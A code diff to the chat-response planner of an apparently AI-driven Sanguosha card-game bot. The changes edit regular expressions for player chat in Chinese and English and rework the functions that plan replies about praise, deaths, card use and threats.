+	if (ally && identity === "zhong" && confidence >= LEANING2 && good.length > 0)
+		return { move: "confirm", clause: "confirm", occasion, about: from, facts: good.slice(0, 1), asked: move };
+	return { move: "ack", clause: null, occasion, about: from, asked: move };
+}
+function doubted(move, { memory, scene, from, me, moves }) {
+	const [last] = memory.exchanges(from, me).filter(({ answered }) => answered !== null);
+	if (!last || moves.length > 1 || last.turn < scene.turn - 1) return null;
+	const base = { move: "ack", occasion: "agree", takesUp: last.id, asked: move };
+	return { ...base, clause: move.act === "agree" ? "agreed" : move.act === "refuse" ? "disagreed" : "patience" };
+}
+const PUT_OFF = /(?:再|先)(?:看看|等等|想想|看(?:一|两)?(?:轮|圈|手|下)|看他|看她|说吧)|还(?:得|要|是)(?:再)?(?:等|看|想)|容我想|让我想想|说不准|\b(?:wait and see|let me (?:think|see)|not (?:sure )?yet|we'?ll see|too early)\b/;
+function replied(move, asked) {
+	const exchange = takenUp2(asked, move);
+	return { move: "ack", clause: "short", occasion: exchange ? "agree" : "ack", asked: move, ...taking(move) };
+}
+
+// src/chatter/plan/plainly-meant.ts
+const WELL_PLAYED = /\b(?:gg ?wp|wp|well played)\b|打得(?:真|太|挺)?(?:漂亮|好|不错)(?![不吗])|佩服|(?:^|[,.! ])(?:我)?服(?:了|气)?(?:$|[,.!])|一[挑打][二三两四]/;
+const DELAYED2 = /(?:手机|电脑|网络?|游戏).{0,4}(?:卡(?:死|住|了)|死机|闪退|崩|没电)|\b(?:phone|pc|laptop|wi-?fi|internet|app|game|computer|screen)(?: just| totally)? (?:froze|crash\w*|lagged|dropped|died|cut out)\b|\b(?:that|this|i) took (?:so long|forever|ages|a while)\b|\bsorry (?:for|about) the (?:wait|delay)\b/;
+const LAID_OPEN = /手牌[^,.!?]{0,6}[念报晒摊读]|[念报晒摊读][^,.!?]{0,4}手牌|\b(?:read|list|lay) (?:me |out |down )*(?:all )?(?:your|ur) (?:hand|cards)\b/;
+const isPlainGesture = (text) => WELL_PLAYED.test(text) || LAID_OPEN.test(text);
+const PLAINLY_MEANT = [
+	{
+		heard: DELAYED2,
+		plan: (move) => isQuestion(move) || (move.facts ?? []).length > 0 ? null : { move: "ack", clause: "no_wait", occasion: "ack", asked: move }
+	},
+	{
+		heard: LAID_OPEN,
+		plan: (move, asked) => asked.meant ? hiddenHand(asked.me, move, asked) : null
+	},
+	{ heard: WELL_PLAYED, plan: wellPlayed }
+];
+const TO_ALL = /大家|各位|\b(?:everyone|everybody|all|guys)\b/;
+function wellPlayed(move, asked) {
+	const { me, from, meant, moves, scene, text } = asked;
+	const others = namedBy(asked).seats.some((seat) => seat !== me && seat !== from);
+	if (!meant || others || TO_ALL.test(text) || moves.some(isQuestion) || move.about !== void 0 && move.about !== me)
+		return null;
+	const felled = /杀|挑|\bkills?\b/.test(text) ? scene.facts.filter(({ kind, by, to }) => kind === "death" && by === me && to !== me).slice(-1) : [];
+	const base = { move: "thank", occasion: "praise", about: me, asked: move };
+	return felled.length > 0 ? { ...base, clause: "praised", facts: felled } : { ...base, clause: "praised_bare" };
+}
+
+// src/chatter/plan/respond/matter.ts
+const LOW3 = 2;
+const foremost = (facts) => facts.reduce(
+	(best, fact) => best === null || FOREMOST.indexOf(fact.kind) <= FOREMOST.indexOf(best.kind) ? fact : best,
+	null
+);
+const isDeed = ({ by, to, kind }) => by !== null && (by !== to || kind === "wuxie") && FOREMOST.includes(kind);
+const toldIn2 = (asked) => [...new Set(asked.moves.flatMap((one) => factsIn(one, asked)))];
+function suitsCards(asked) {
+	const named = cardsIn(asked.text).filter(({ card }) => !PLAIN3.has(card));
+	if (named.length === 0) return () => true;
+	return ({ kind, card }) => named.some((one) => one.card === "wuxie" ? kind === "wuxie" : isSame(asked.scene, one.card, card));
+}
+function deedOf4(asked, fits, since) {
+	const { scene } = asked;
+	const named = namedIn3(asked, fits);
+	if (named) return named;
+	const suits = suitsCards(asked);
+	const from = since ?? scene.turn - 1;
+	return foremost(scene.facts.filter((fact) => fact.turn >= from && isDeed(fact) && fits(fact) && suits(fact)));
+}
+function namedIn3(asked, fits) {
+	const told = toldIn2(asked).find((fact) => fact.kind !== "dying" && fits(fact));
+	if (told) return told;
+	const touched = touchedBy(asked);
+	return touched && touched.kind !== "dying" && fits(touched) && suitsCards(asked)(touched) ? touched : null;
+}
+const lapOf = ({ scene }) => scene.turn - scene.table.seats.length;
+function thirdIn({ asked, move }) {
+	const { me, from, scene } = asked;
+	const all = [...move.about === void 0 ? [] : [move.about], ...namedBy(asked).seats].filter(
+		(seat) => seat !== me && seat !== from
+	);
+	return all.find((seat) => seatOf(scene, seat)?.alive === true) ?? all[0] ?? null;
+}
+const isOfMe = ({ asked, move }) => {
+	const { me, from, text } = asked;
+	const { people, seats } = namedBy(asked);
+	return move.about === me || seats.includes(me) || people.has(me) && SAYS_YOU.test(text) && seats.every((seat) => seat === from);
+};
+const isOfSpeaker = ({ asked }) => {
+	const { me, from, text, scene } = asked;
+	const kinds = mentionsIn(text, { scene, from, hearer: me, he: null }).map(({ kind }) => kind);
+	return kinds.includes("self") && !kinds.includes("seat") || namedBy(asked).seats[0] === from;
+};
+const backOn = (occasion) => ({ move }, more) => ({
+	occasion,
+	asked: move,
+	...more
+});
+const hpOf = ({ scene }, seat) => seatOf(scene, seat)?.hp ?? 0;
+function healthClause(asked, whom) {
+	const low = hpOf(asked, whom) <= LOW3;
+	if (whom === asked.me) return low ? "mine_low" : "mine_well";
+	return low ? "stands_low" : "stands_well";
+}
+function lastOpened({ scene, me, from }) {
+	const fact = scene.facts.filter(({ kind, to }) => (kind === "death" || kind === "reveal") && to !== scene.table.lord).pop();
+	return fact?.to != null && fact.to !== me && fact.to !== from && fact.role !== null && fact.turn >= scene.turn - FRESH3 ? { about: fact.to, role: fact.role } : null;
+}
+const FRESH3 = 2;
+function openedIn(matter) {
+	const { asked, move } = matter;
+	const { scene, me, from } = asked;
+	const seats = [...move.about === void 0 ? [] : [move.about], ...namedBy(asked).seats];
+	for (const about of seats) {
+		if (about === scene.table.lord || about === me || about === from) continue;
+		const role = seatOf(scene, about)?.revealed;
+		if (role) return { about, role };
+	}
+	return seats.every((seat) => seat === scene.table.lord || seat === me || seat === from) ? lastOpened(asked) : null;
+}
+const HP_SAID = /([\d一二两三四五六])(?:点|滴|格)?血|([\d一二两三四五六])[滴格]|\b(\d|one|two|three) ?hp\b/;
+const NO_CARDS = /没(?:有)?(?:手)?牌|空城|光板|\b(?:no cards?|empty hand)\b/;
+function standsSo2({ asked }) {
+	const { text, scene, me, from } = asked;
+	const said = HP_SAID.exec(text);
+	if (!said) return null;
+	const hp = numberIn2(said.slice(1).join(""));
+	const bare = NO_CARDS.test(text);
+	const all = living(scene).filter(
+		({ seat, hp: points }) => seat !== me && seat !== from && points === hp && (!bare || isEmptyHanded(scene, seat))
+	);
+	return all.length === 1 ? all[0]?.seat ?? null : null;
 }
 
 // src/chatter/plan/wishes.ts
@@ -39322,7 +39733,7 @@ function threatPlan(move, asked) {
 		return joining(move.about, move, asked);
 	if (move.about !== void 0 && move.about !== me) return null;
 	const base = { occasion: "taunt", asked: move };
-	const facts = against(from, asked);
+	const facts = [...against(from, asked), ...between(asked.scene, me, from, isHarm)].slice(0, 1);
 	if (facts.length > 0) return { ...base, move: "rebut", clause: "threat_met", facts };
 	return { ...base, move: "bargain", clause: "threat_eased" };
 }
@@ -39330,6 +39741,7 @@ function threatPlan(move, asked) {
 // src/chatter/plan/gestures.ts
 const SLANDER = /(?:骂|嘲笑|笑话|编排)(?:了|过)?你|(?:说|讲|喊|叫)(?:了|过)?你(?:是(?:个|条|只)?|长得|打得|玩得|就是|像|跟|没|不)(?!忠|反|内|主|好人|自己人|坏人)|\b(?:called|calls|calling) (?:you|u) (?:an? |the )|\b(?:talk(?:ing|s|ed)? (?:shit|trash|smack|crap)|badmouth\w*|laugh(?:ing|ed|s)) (?:about|at|of)? ?(?:you|u)\b|\b(?:said|says) (?:you|u|ur) ?(?:are|r|play|suck|look)\b/;
 const GESTURES2 = [
+	...PLAINLY_MEANT,
 	{
 		heard: /求(?:表扬|夸|夸奖|点赞)|(?<!谁)(?:表扬|夸)(?:一下|夸)?我|(?:我|咱)(?:刚才)?(?:这|那)(?:一)?(?:波|手|把|刀|招|下|操作|发)?(?:打得|玩得)?(?:咋样|怎么样(?!才)|如何(?!才)|帅不帅|秀不秀|漂不漂亮|帅吧|秀吧|漂亮吧|可以吧|还行吧|厉害吧|稳吧)|我(?:是不是很|够|真)?(?:厉害|牛|强|帅|秀)(?:吧|不|吗|么)|\b(?:how was that|how'?d i do|did i do (?:good|well|ok)|rate my|not bad,? (?:huh|eh|right)|praise me|any praise)\b/,
 		plan: acclaimed
@@ -39535,154 +39947,148 @@ function laidOpen(move, asked) {
 	return { move: "ack", clause: said === open.role ? "foreseen" : "unforeseen", occasion: "ack", ...open, asked: move };
 }
 
-// src/chatter/plan/judging.ts
-const guessPlan = (about, role, sure, facts, move, more = {}) => ({
-	move: "guess",
-	clause: facts.length > 0 ? "guess" : "guess_bare",
-	occasion: "ask_guess",
-	about,
-	role,
-	sure,
-	facts,
-	asked: move,
-	...taking(move),
-	...more
-});
-function guessAbout(seat, move, asked) {
-	const { scene, view, memory, me } = asked;
-	const open = openPlan(seat, move, asked);
-	const done = seat === scene.table.lord && move.role === void 0 && seat !== me ? harmOf(scene, seat) : [];
-	const toNamed = done.filter(({ to }) => to !== null && to !== me && namedBy(asked).people.has(to));
-	const deeds = (toNamed.length > 0 ? toNamed : done).slice(0, 2).reverse();
-	if (deeds.length > 0)
-		return {
-			move: "confirm",
-			clause: "tell",
-			occasion: "ask_guess",
-			about: seat,
-			facts: deeds,
-			asked: move,
-			...taking(move)
-		};
-	if (open && seat === scene.table.lord && move.role !== void 0 && move.role !== "zhu" && seat !== me) {
-		const { about: _, ...rest } = move;
-		return guessPlanFor(rest, asked);
-	}
-	if (open) return open;
-	const { identity, confidence } = view.guess(seat);
-	const before = memory.judged(me, seat);
-	if (isJudged(identity) && confidence >= LEANING2) {
-		const facts = reasonsFor3(scene, view, seat, identity).slice(0, reasonsTold2(asked));
-		return guessPlan(seat, identity, confidence, facts, move, {
-			...isJudged(before?.role) && before.role !== identity ? { changed: true } : {}
-		});
-	}
-	const own = seat === asked.from ? deedsOf(seat, null, scene).filter((fact) => isHarm(fact) || isHelp(fact)) : [];
-	const seen = [...harmOf(scene, seat), ...own].slice(0, 1);
-	return {
-		move: "unsure",
-		clause: seat !== asked.from ? "unsure_who" : seen.length > 0 ? "read_you" : "none_on_you",
-		occasion: "ask_guess",
-		about: seat,
-		facts: seen,
+// src/chatter/plan/particulars.ts
+const WHICH_CARD = /(?:什么|啥)牌|哪一?张|\b(?:what|which) card\b/;
+const SUDDENLY = /(?:咋|怎么)(?:就|又|突然|忽然)|突然|\bhow come\b|\bhow did .{1,24} start\b/;
+const IN_VAIN = /没(?:有)?(?:烧|打|砍|射|拆|顺|乐|中|劈|起作用|成)|落空|\b(?:miss(?:ed)?|fail(?:ed)?|didn'?t (?:work|hit|land|burn|do anything))\b/;
+const LOST3 = new Set(["steal", "discard"]);
+const SHOWS = new Set(["sha", "juedou", "huogong", "guohe", "shunshou"]);
+function particularsOf(first, move, asked) {
+	const { scene, text, me } = asked;
+	const { by, to, card, kind, turn } = first;
+	if (by === null || !isQuestion(move)) return null;
+	const told = {
+		move: "confirm",
+		occasion: "point_at",
+		...by === me ? {} : { about: by },
+		facts: [first],
 		asked: move,
 		...taking(move)
 	};
+	const inTurn = scene.facts.filter((fact) => fact.turn === turn);
+	const aimed = inTurn.filter((fact) => fact.kind === "aimed" && fact.card === card).pop();
+	const hits = inTurn.filter((fact) => fact.kind === "hit" && fact.card === card && fact.to !== null);
+	if (LOST3.has(kind) && card === null && WHICH_CARD.test(text)) return { ...told, clause: "unseen_card" };
+	if (kind === "hit" && aimed && SUDDENLY.test(text))
+		return { ...told, clause: "came_of", facts: [aimed], ...aimed.by === null ? {} : { about: aimed.by } };
+	if (kind !== "aimed" || !SHOWS.has(card ?? "") || !IN_VAIN.test(text)) return null;
+	const came = hits.some((hit) => hit.to === to || hit.to === by) || inTurn.some((fact) => fact.by === by && fact.to === to && LOST3.has(fact.kind));
+	const blocked = inTurn.find((fact) => fact.kind === "wuxie" && fact.to === to && fact.card === card);
+	if (came) return null;
+	return {
+		...told,
+		clause: blocked ? "came_of" : card === "huogong" ? "no_suit" : "fell_flat",
+		facts: [blocked ?? first]
+	};
 }
-const LATELY3 = 2;
-function namedBefore({ memory, me, from, scene }, { refersTo }) {
-	if (refersTo === void 0 || memory.byId(refersTo)?.to !== me) return new Set();
-	return new Set(
-		memory.exchanges(from, me).flatMap(({ turn, answered }) => scene.turn - turn <= LATELY3 ? answered?.about ?? [] : [])
+
+// src/chatter/plan/inquiry.ts
+function doneTo(about, { text, scene, from, me }) {
+	const named = mentionsIn(text, { scene, from, hearer: me, he: null }).filter(
+		({ seat, called }) => seat !== null && seat !== about && !called
 	);
+	const [whom] = named;
+	return named.length === 1 && whom && DONE_TO.test(text.slice(0, whom.start)) ? whom.seat : null;
 }
-function ofTheTwo({ text, scene, from, me, view }) {
-	if (!/[俩两]|还是|哪个|谁(?:更|比较)|\bbetween\b|\bwhich of\b|\bor\b/.test(text)) return null;
-	const named = mentionsIn(text, { scene, from, hearer: me, he: null }).flatMap(
-		({ kind, seat, called }) => kind === "seat" && seat !== null && !called && seat !== from && seat !== me ? [seat] : []
-	);
-	const two = [...new Set(named)].filter((seat) => seatOf(scene, seat)?.revealed === null);
-	if (two.length !== 2) return null;
-	return two.reduce((best, seat) => view.guess(seat).confidence > view.guess(best).confidence ? seat : best);
+function eventsOf(when, scene) {
+	const then = scene.facts.filter((fact) => fact.by !== null && isThen(when ?? { which: "last_round" }, fact, scene));
+	const rank = ["death", "reveal", "rescue", "hit", "heal", "wuxie", "steal", "discard", "aimed"];
+	const weightiest = then.filter(({ kind, by, to }) => rank.includes(kind) && by !== to).sort((a, b) => rank.indexOf(a.kind) - rank.indexOf(b.kind)).slice(0, MOST_TOLD2);
+	return then.filter((fact) => weightiest.includes(fact));
 }
-function hiddenOf(about, { scene, moves, me, from }) {
-	if (seatOf(scene, about)?.revealed == null || about === scene.table.lord) return about;
-	const parties = moves.flatMap(({ facts = [] }) => facts.flatMap(({ by, to }) => [by, to]));
-	const other = parties.find(
-		(seat) => seat !== void 0 && seat !== me && seat !== from && seatOf(scene, seat)?.revealed === null
-	);
-	return other ?? about;
-}
-const SUPPOSED5 = /(?:要是|如果|假如|既然)|\bif\b/;
-function leftOver(asked) {
-	const { scene, me, from, text } = asked;
-	const { seats } = namedBy(asked);
-	const own = /我(?:是|也)|\b(?:i'?m|i am|me)\b/.test(text);
-	const left = living(scene).filter(
-		({ seat, revealed }) => revealed === null && !seats.includes(seat) && !(own && seat === from)
-	);
-	return left.length === 1 && left[0]?.seat !== me ? left[0]?.seat ?? null : null;
-}
-const WHICH2 = /哪个|谁(?:更|比较|是)|\bwhich\b|\bwho\b.*\bor\b/;
-function guessPlanFor(move, asked) {
-	const { me, scene, view, text } = asked;
-	const { about, role } = move;
-	const worn = role === void 0 && /什么|啥|哪|\b(?:which|what)\b/.test(text) && gearIn(text, new Set()).length > 0;
-	const used = worn ? usedPlan(move, asked) : null;
-	if (used) return used;
-	if (about === me) return roleAsked2(move, asked);
-	const which = about === void 0 || WHICH2.test(text) ? ofTheTwo(asked) : null;
-	if (which !== null) return guessAbout(which, move, asked);
-	const left = role === void 0 || !SUPPOSED5.test(text) ? null : leftOver(asked);
-	if (left !== null)
-		return {
-			move: "guess",
-			clause: "left_over",
-			occasion: "ask_guess",
-			about: left,
-			role,
-			asked: move
-		};
-	if (about !== void 0) return guessAbout(hiddenOf(about, asked), move, asked);
-	const leftOut = namedBefore(asked, move);
-	const wanted = isJudged(role) ? [role] : ["fan", "nei"];
-	for (const one of wanted) {
-		const suspect = suspectOf2(one, leftOut, asked);
-		if (!suspect) continue;
-		const facts = reasonsFor3(scene, view, suspect.seat, one).slice(0, reasonsTold2(asked));
-		return guessPlan(suspect.seat, one, suspect.confidence, facts, move);
+const LAST_WORDS = /(?<![还好可没再])(?:说|讲|喊)(?:过|了)?(?:什么|啥)|说(?:了|过)(?:哪些|几句)|遗言|\bwhat did .{1,20} say\b|last words/;
+const CHALLENGE = /(?:还有|有)(?:什么|啥|何)(?:话|好|可)(?:说|讲|解释|狡辩)|怎么解释|\bwhat do you have to say\b|\bexplain yourself\b/;
+const WHO_USED = /(?:谁|哪个|哪位|几号).{0,4}(?:放|开|用|丢|甩|出|使)|\bwho(?:ever)? (?:played|used|cast|dropped|did)\b/;
+const ASKS_WHOM = /(?<!^)谁|哪[几两些]?个|几号|\bwhom?\b/;
+function factPlan(move, asked) {
+	const { scene, me, lastWords, text } = asked;
+	const { facts = [] } = move;
+	const spoke = LAST_WORDS.test(text);
+	const about = move.about ?? (spoke ? facts[0]?.to : void 0);
+	const dead = about !== void 0 && seatOf(scene, about)?.alive === false;
+	const when = whenIn(text);
+	if (about === me && CHALLENGE.test(text)) return rebuttal(move, asked);
+	if (spoke && /遗言|last words/.test(text) && seatOf(scene, about ?? me)?.alive === true)
+		return { move: "deflect", clause: "hold_on", occasion: "ack", about: about ?? me, asked: move };
+	if (about !== void 0 && about !== asked.from && (spoke || dead && facts.length === 0 && !DEEDS_ASKED.test(text))) {
+		const words = lastWords(about);
+		return words === null ? { move: "unsure", clause: "forgot", occasion: "ack", about, asked: move, ...taking(move) } : { move: "confirm", clause: "quote", occasion: "ack", about, words, asked: move, ...taking(move) };
 	}
-	for (const one of isJudged(role) ? ["fan", "nei", "zhong"] : []) {
-		const suspect = one === role ? null : suspectOf2(one, leftOut, asked);
-		if (!suspect || !role) continue;
-		const facts = reasonsFor3(scene, view, suspect.seat, one).slice(0, 2);
-		return guessPlan(suspect.seat, one, suspect.confidence, facts, move, { unlike: role });
-	}
-	const doubtful = doubtfulOf(leftOut, asked);
-	if (doubtful && role !== "zhong")
+	const now = LEFT3.test(text) ? standerIn(asked) : null;
+	if (STANDS.test(text) && seatOf(scene, now ?? about ?? me)?.alive === true && (now !== null || !facts.some(({ verdict }) => verdict === "true")))
 		return {
-			move: "unsure",
-			clause: "unsure_who",
-			occasion: "ask_guess",
-			about: doubtful.seat,
-			facts: doubtful.harm.slice(0, 1),
+			move: "confirm",
+			clause: "stands",
+			occasion: "ack",
+			about: now ?? about ?? me,
 			asked: move,
 			...taking(move)
 		};
-	const clause = leftOut.size > 0 ? "only_one" : "unsure_all";
-	return { move: "unsure", clause, occasion: "ask_guess", asked: move, ...taking(move) };
+	const known = factsIn(move, asked);
+	const told = { move: "confirm", clause: "tell", occasion: "point_at", asked: move };
+	if (known.length > 0) {
+		const [first] = known;
+		const [said] = facts;
+		const [latest] = [...scene.uses].reverse().filter(({ name, turn }) => name === said?.card && (when === null || turn === first?.turn));
+		if (WHO_USED.test(text) && first?.group && said && said.by === void 0 && said.to === void 0 && first.by !== null && first.card !== null)
+			return usePlan(latest ?? { by: first.by, name: first.card }, move, asked);
+		const particulars = first && said ? particularsOf(first, move, asked) : null;
+		if (particulars) return particulars;
+		const who = first && first.by !== null && first.by !== me ? { about: first.by } : {};
+		const open = facts.some(({ by, to }) => by === void 0 || to === void 0);
+		const own = first?.by === me ? ownClause(first) : "confirm";
+		const [one] = known;
+		const amid = one?.kind === "death" && one.by === null ? diedAmid(one, scene) : null;
+		if (amid) return { ...told, clause: "died_amid", about: amid.by, words: amid.name };
+		const all = first && said?.by !== void 0 && said.to === void 0 && ASKS_WHOM.test(text) ? alike3(first, scene) : [];
+		return { ...told, clause: open ? "tell" : own, ...who, facts: all.length > 1 ? all : known.slice(0, 2) };
+	}
+	const used = facts.find(({ verdict, card }) => verdict === "true" && card !== void 0);
+	const use = used && [...scene.uses].reverse().find(({ name, turn, by }) => name === used.card && turn === (used.turn ?? turn) && by !== used.to);
+	const others = use?.to.filter((seat) => seat !== use.by) ?? [];
+	if (used?.by !== void 0 && used.to === void 0 && use && others.length > 0 && ASKS_WHOM.test(text))
+		return { ...told, clause: "used_on", about: use.by, words: use.name, them: others };
+	if (used && use) return usePlan(use, move, asked);
+	const [vain] = cardsIn(text).filter(({ card }) => FOR_ALL.has(card) && scene.uses.some(({ name }) => name === card));
+	if (vain && facts.length === 0 && ASKS_WHOM.test(text)) return { ...told, clause: "hit_none", words: vain.card };
+	const wrong = facts.find(({ verdict }) => verdict === "false");
+	if (wrong && wrong.by === void 0 && wrong.less === void 0) {
+		const near = scene.facts.filter(
+			(fact) => fact.to === wrong.to && fact.by !== null && fact.by !== fact.to && isAkin(wrong, fact) && (when === null || isThen(when, fact, scene))
+		);
+		if (near.length === 0 && !isExcluded(wrong, asked)) return { ...told, move: "unsure", clause: "unknown_fact" };
+		return { ...told, move: "correct", clause: near.length > 0 ? "as_seen" : "nobody", facts: near.slice(-1) };
+	}
+	if (wrong) return denial(wrong, move, asked);
+	const hand = handPlan(move, asked);
+	if (hand) return hand;
+	if (about !== void 0) {
+		const whom = doneTo(about, asked);
+		const done = deedsOf(about, when, scene, whom);
+		if (done.length > 0) return { ...told, about, facts: done };
+		const earlier = whom === null ? [] : deedsOf(about, null, scene, whom);
+		if (earlier.length > 0) return { ...told, clause: "as_seen", about, facts: earlier.slice(-1) };
+		if (whom !== null) return { ...told, clause: "no_dealings", about, not: whom };
+		const acted = scene.uses.some((use2) => use2.by === about && (when === null || isThen(when, use2, scene)));
+		if (DEEDS_ASKED.test(text) && !acted) return { ...told, clause: "did_nothing", about };
+	}
+	const happened = about === void 0 && DEEDS_ASKED.test(text) ? eventsOf(when, scene) : [];
+	if (happened.length > 0) return { ...told, facts: happened };
+	return { move: "unsure", clause: "unknown_fact", occasion: "ack", asked: move, ...taking(move) };
 }
-function roleAsked2(move, asked) {
-	const { me } = asked;
-	if (move.about !== void 0 && move.about !== me) return guessAbout(move.about, move, asked);
-	const open = openPlan(me, move, asked);
-	return open ? { ...open, occasion: "ask_role" } : selfAsked(move, asked);
+const LEFT3 = /还?剩|还有(?=几|多少)|\b(?:left|now)\b/;
+const standerIn = ({ text, scene, from, me }) => mentionsIn(text.slice(0, text.search(LEFT3)), { scene, from, hearer: me, he: null }).filter(({ seat }) => seat !== null).pop()?.seat ?? null;
+function alike3({ by, card, turn, kind }, { facts }) {
+	const same = facts.filter((fact) => fact.by === by && fact.turn === turn && fact.to !== by && fact.card === card);
+	const blows = same.filter((fact) => fact.kind === "hit");
+	return (blows.length > 0 ? blows : same.filter((fact) => fact.kind === kind)).slice(-MOST_TOLD2);
 }
+const diedAmid = ({ to, turn }, { uses }) => uses.filter((use) => use.turn === turn && to !== null && use.by !== to && use.to.includes(to) && use.name in CARD_RULES).pop();
 
 // src/chatter/plan/befallen.ts
 const FELL = /(?:怎么|咋)(?:就|又|还|突然|忽然|这么快|一下子|会)*(?:死|没|倒|挂|凉)了?(?:的)?(?=$|[,.!?啊呀呢吗])|\b(?:how (?:did|come)|why (?:is|did|are)) .{1,24}\b(?:die|dead|died|gone)\b/;
 const LIVED = /(?:怎么|咋|居然|竟然?)(?:还)?没(?:死|倒|挂|收掉)|(?:怎么|咋)还(?:活着|在(?:$|[,.!?啊呀]))|\b(?:how|why) (?:is|are|did|does|isn'?t|come) .{1,24}\b(?:alive|survived?|not dead|not die|live through)\b|\bwhy (?:isn'?t|didn'?t) .{1,24} (?:dead|die)\b/;
-const LOST3 = /(?:怎么|咋|为(?:什么|啥))(?:又|就|都|会|一块儿?|一起|突然)*(?:掉(?:了)?血|(?:少|掉)了?[一二三两\d]?[点滴格]|只?剩[一二三两\d][点滴格]?血?)|\bwhy (?:am i|are we|is .{1,20}) (?:on|at|down to) \d ?(?:hp|health)?\b|\bwhere did my (?:hp|health) go\b/;
+const LOST4 = /(?:怎么|咋|为(?:什么|啥))(?:又|就|都|会|一块儿?|一起|突然)*(?:掉(?:了)?血|(?:少|掉)了?[一二三两\d]?[点滴格]|只?剩[一二三两\d][点滴格]?血?)|\bwhy (?:am i|are we|is .{1,20}) (?:on|at|down to) \d ?(?:hp|health)?\b|\bwhere did my (?:hp|health) go\b/;
 const CANNOT_PLAY = /[点出打]不了(?:牌)?(?=$|[,.!?\s啊呀是])|(?:不能|没法|无法)(?:出牌|点牌)|\bcan'?t (?:play|click|use)(?: any)?(?: cards?)?\b|\b(?:why|did).{0,12} (?:i|my turn) (?:get )?skipped\b/;
 function befallenPlan(move, asked) {
 	const { text, scene, from, me } = asked;
@@ -39692,7 +40098,7 @@ function befallenPlan(move, asked) {
 		return laid ? { ...base, move: "explain", clause: "was_laid", facts: [laid], found: NOTHING3 } : null;
 	}
 	const got = GOT.test(text);
-	const lost = LOST3.test(text);
+	const lost = LOST4.test(text);
 	const fell = FELL.test(text) && !cardsIn(text).some(({ card }) => GEAR.has(card));
 	const asks = lost || fell || LIVED.test(text);
 	if (!got && !asks) return null;
@@ -39703,10 +40109,14 @@ function befallenPlan(move, asked) {
 	if (came) return { ...base, move: "confirm", clause: "tell", facts: [came], found: NOTHING3 };
 	if (!asks) return null;
 	const whom = fell ? named.filter((seat) => seatOf(scene, seat)?.alive === false).pop() ?? (cardsIn(text).some(({ card }) => card !== "tao" && card !== "jiu") ? void 0 : justFallen(scene)) : named.filter((seat) => seat !== from).pop() ?? from;
-	if (whom === void 0 || fell && scene.facts.some(({ kind, to: to2, by }) => kind === "death" && to2 === whom && by === null))
-		return null;
+	if (whom === void 0) return null;
 	const to = lost && named.length > 0 ? named : [whom];
 	const death = fell ? scene.facts.filter(({ kind, to: on }) => kind === "death" && on === whom).pop() : void 0;
+	if (death?.by === null) {
+		const amid = diedAmid(death, scene);
+		const told = { ...base, move: "confirm", facts: [death], found: NOTHING3 };
+		return amid ? { ...told, clause: "died_amid", about: amid.by, words: amid.name } : { ...told, clause: "tell" };
+	}
 	const hits = scene.facts.filter(
 		({ kind, to: on, by, turn }) => kind === "hit" && on !== null && to.includes(on) && // Whoever is dead fell by the blow that the death goes with.
 		(death === void 0 || turn === death.turn && by === death.by)
@@ -39789,7 +40199,7 @@ const weakestOf = (seats, asked) => [...seats].sort((a, b) => hpOf(asked, a) - h
 
 // src/chatter/plan/intending.ts
 const HELPED = /救|捞|奶|拉(?:我|一把)|桃|保我|罩我|\b(?:save|sav(?:e|ing)|heal\w*|peach\w*|help\w*|back\w*)\b/;
-const AGAIN2 = /(?:下[回次把轮]|下个?回合|以后|往后|再|还)[^,.!?]{0,6}(?:还|再|敢)[^,.!?]{0,3}([\u4e00-\u9fff])(?:不\1|[\u4e00-\u9fff我]{0,3}(?:不|吗|么)[啊呀了]?(?:$|[,.!?]))|还敢不敢|还(?:这么|这样|那么)[\u4e00-\u9fff]{1,3}(?:不|吗|么)|\b(?:(?:do|try|pull|use|play) (?:that|it|this) again|again next (?:turn|time|round)|(?:next time|next turn).{0,16}\bagain)\b/;
+const AGAIN2 = /(?:下[回次把轮]|以后|往后|再|还)[^,.!?]{0,6}(?:还|再|敢)[^,.!?]{0,3}([\u4e00-\u9fff])(?:不\1|[\u4e00-\u9fff我]{0,3}(?:不|吗|么)[啊呀了]?(?:$|[,.!?]))|\b(?:(?:do|try|pull|use|play) (?:that|it|this) again|again next (?:turn|time|round))\b/;
 const INTENDS = /我(?:准备|打算|想|要|先|这就|待会|等下)|\bi(?:'m going to|'?m gonna|'?ll| will| plan)\b/;
 const OF_MINE = /我(?!们)|^先|\b(?:i|my)\b/;
 const STRIKES_ME = /(?:[打砍杀射烧弄搞拆顺乐兵动]|突突|收拾|针对|集火)我(?!们)|\b(?:hit|attack|kill|shoot|target)(?:ing)? me\b/;
@@ -39942,144 +40352,6 @@ function dealPlan({ move, until, target, asks, spares }, asked) {
 	}
 }
 
-// src/chatter/plan/telling.ts
-const ownClause = ({ good }) => good === false ? "admit" : "own_up";
-function reportPlan(move, asked) {
-	const { facts = [] } = move;
-	const wrong = facts.find(({ verdict }) => verdict === "false");
-	const known = factsIn(move, asked);
-	const [first] = known;
-	if (wrong && (first === void 0 || isCounted(wrong))) return denial(wrong, move, asked);
-	if (first?.by === asked.from || first?.by === asked.me && known.length === 1) return onDeed(first, move, asked);
-	if (first)
-		return {
-			move: "confirm",
-			clause: first.by === asked.me ? ownClause(first) : "confirm",
-			occasion: "point_at",
-			...first.by === null || first.by === asked.me ? {} : { about: first.by },
-			facts: (first.by === asked.me ? known.filter(({ by }) => by === asked.me) : known).slice(0, 2),
-			asked: move,
-			...taking(move)
-		};
-	const hand = handPlan(move, asked);
-	if (hand) return hand;
-	const own = facts.length === 0 ? ownDoing(move, asked, cardsIn(asked.text)) : null;
-	if (own && cardsIn(asked.text).length > 0) return own;
-	const [use] = facts;
-	if (use?.by === asked.me && use.verdict === "true" && (use.card === "tao" || use.card === "jiu") && !use.denied)
-		return { move: "ack", clause: "hold_on", occasion: "ack", about: asked.me, asked: move };
-	if (use?.kind === "dying" && use.verdict === "true" && use.to !== void 0)
-		return { move: "confirm", clause: "as_is", occasion: "ack", about: use.to, asked: move };
-	if (use && facts.every(({ verdict }) => verdict === "true"))
-		return use.by !== void 0 && use.card !== void 0 && use.denied !== true ? usePlan({ by: use.by, name: use.card }, move, asked) : { move: "confirm", clause: move.denied ? "never" : null, occasion: "agree", asked: move };
-	const remark = facts.length === 0 ? remarkPlan(move, asked) : null;
-	return remark ?? { move: "unsure", clause: "unknown_fact", occasion: "point_at", asked: move, ...taking(move) };
-}
-function handPlan(move, asked) {
-	const { from, text } = asked;
-	const { facts = [], about } = move;
-	const open = facts.every(({ denied, fact }) => denied === true && fact === void 0);
-	if (!open || !(IN_HAND.test(text) || HOLDING2.test(text) || facts.length > 0 && /[兜手]里|没[杀闪桃]/.test(text)))
